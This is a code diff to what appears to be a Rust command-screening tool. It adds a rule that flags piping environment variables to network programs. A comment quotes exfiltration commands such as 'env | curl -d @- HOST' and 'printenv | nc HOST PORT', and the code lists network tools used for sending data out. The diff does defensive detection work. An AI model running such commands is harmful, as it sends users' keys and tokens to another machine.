@@ -58,6 +58,14 @@ pub(crate) static METADATA: Rule = Rule {
     safer: "",
 };
 
+/// Holds what sends the environment away.
+pub(crate) static ENVIRONMENT: Rule = Rule {
+    id: "network.send-environment",
+    hold: Hold::Ask,
+    reason: "sends the variables of the environment to another machine, with the keys and tokens among them",
+    safer: "send the one variable that is needed, by its name",
+};
+
 /// Holds what prints secrets.
 pub(crate) static SECRET_PRINT: Rule = Rule {
     id: "secret.print",
@@ -76,11 +84,12 @@ pub(crate) static SECRET_DELETE: Rule = Rule {
 
 /// The rules of this judge.
 pub(crate) static RULES: &[&Rule] =
-    &[&REMOTE_SHELL, &RAW, &TUNNEL, &SERVE, &GRANT, &METADATA, &SECRET_PRINT, &SECRET_DELETE];
+    &[&REMOTE_SHELL, &RAW, &TUNNEL, &SERVE, &GRANT, &METADATA, &ENVIRONMENT, &SECRET_PRINT, &SECRET_DELETE];
 
 /// Judges what a call gives to the network, and which secrets it prints.
 pub(crate) fn judge(call: &Invocation, case: &mut Case<'_>) {
     sockets(call, case);
+    environment(call, case);
     shape::judge(PROGRAMS, call, case);
     if call.program().starts_with("python") {
         web_server(call, case);
@@ -220,6 +229,24 @@ static KEYGEN: Tool = Tool::code(|call, read, case| {
     }
 })
 .taking("abCDEFfIjJKMmNnOPQRrSsTtVwYZz", &[]);
+
+/// `env | curl -d @- HOST`, `printenv | nc HOST PORT`.
+fn environment(call: &Invocation, case: &mut Case<'_>) {
+    if call.stdin != Stream::Environment {
+        return;
+    }
+    let sends = match call.program() {
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "http" | "https" | "xh" => true,
+        // They send what they read only where they are told to.
+        "curl" | "wget" | "gh" | "openssl" => {
+            call.args().iter().any(|arg| fits("*@-|-|*=-|-T-|*/dev/stdin|s_client", arg.text()))
+        }
+        _ => false,
+    };
+    if sends {
+        case.hold(&ENVIRONMENT, call.shown());
+    }
+}
 
 /// `python -m http.server` where the home directory or the root is.
 fn web_server(call: &Invocation, case: &mut Case<'_>) {
